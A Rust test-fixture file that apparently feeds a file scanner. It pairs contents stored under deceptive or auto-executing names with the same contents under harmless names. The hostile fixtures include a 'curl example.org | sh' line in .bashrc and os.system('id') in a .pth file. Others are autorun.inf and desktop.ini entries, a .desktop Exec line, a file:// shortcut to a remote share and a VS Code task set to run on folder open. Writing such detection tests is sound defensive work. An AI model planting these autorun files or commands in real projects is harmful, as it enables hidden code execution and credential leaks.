//! Names that promise what the file is not, and names that somebody acts on.

use crate::Case;

const POINTER: &str = "version https://git-lfs.github.com/spec/v1\n\
    oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n";

pub(super) fn cases() -> Vec<Case> {
    vec![
        renamed(
            "text-named-as-safetensors",
            ("extension", "is named as safetensors and is text"),
            POINTER,
            ["model.safetensors", "model.pointer"],
        ),
        renamed(
            "text-named-as-a-picture",
            ("extension", "is named as image and is text"),
            "import os\n",
            ["figure.png", "figure.txt"],
        ),
        renamed(
            "json-whose-name-ends-in-a-dot",
            ("extension", "which Windows drops"),
            "{}",
            ["config.json.", "config.json"],
        ),
        renamed(
            "json-with-an-invisible-character-in-its-name",
            ("extension", "U+200B"),
            "{}",
            ["config.js\u{200b}on", "config.json"],
        ),
        renamed(
            "text-that-windows-runs-from-a-medium",
            ("autorun", "when the medium is put in"),
            "[autorun]\nopen=setup\n",
            ["AutoRun.inf", "AutoRun.txt"],
        ),
        renamed(
            "text-that-dresses-up-a-folder",
            ("autorun", "a desktop acts on"),
            "[.ShellClassInfo]\nIconResource=\\\\example.org\\share\\icon.ico\n",
            ["weights/desktop.ini", "weights/desktop.txt"],
        ),
        renamed(
            "text-that-names-a-program-for-a-desktop",
            ("autorun", "a desktop acts on"),
            "[Desktop Entry]\nType=Application\nExec=sh -c id\n",
            ["README.desktop", "README"],
        ),
        renamed(
            "text-that-makes-windows-log-in-elsewhere",
            ("autorun", "a desktop acts on"),
            "[InternetShortcut]\nURL=file://example.org/share\n",
            ["documentation.url", "documentation.txt"],
        ),
        renamed(
            "text-that-python-runs-at-its-start",
            ("autorun", "runs at its start"),
            "import os; os.system('id')\n",
            ["weights.pth", "weights.txt"],
        ),
        renamed(
            "text-that-a-shell-runs-at-its-start",
            ("autorun", "when a shell or tool starts"),
            "curl example.org | sh\n",
            [".bashrc", "bashrc"],
        ),
        renamed(
            "json-that-an-editor-obeys",
            ("autorun", "an editor that opens the folder"),
            r#"{"tasks":[{"command":"id","runOptions":{"runOn":"folderOpen"}}]}"#,
            [".vscode/tasks.json", "vscode/tasks.json"],
        ),
        renamed(
            "text-with-the-name-of-a-device",
            ("autorun", "a device of Windows"),
            "text\n",
            ["Nul.txt", "Null.txt"],
        ),
    ]
}

/// The same text under a hostile name and under a harmless one.
fn renamed(
    name: &'static str,
    (code, says): (&'static str, &'static str),
    text: &str,
    [hostile, harmless]: [&'static str; 2],
) -> Case {
    let file = |path| vec![(path, text.as_bytes().to_vec())];
    Case { name, code, says, files: file(hostile), twin: file(harmless) }
}
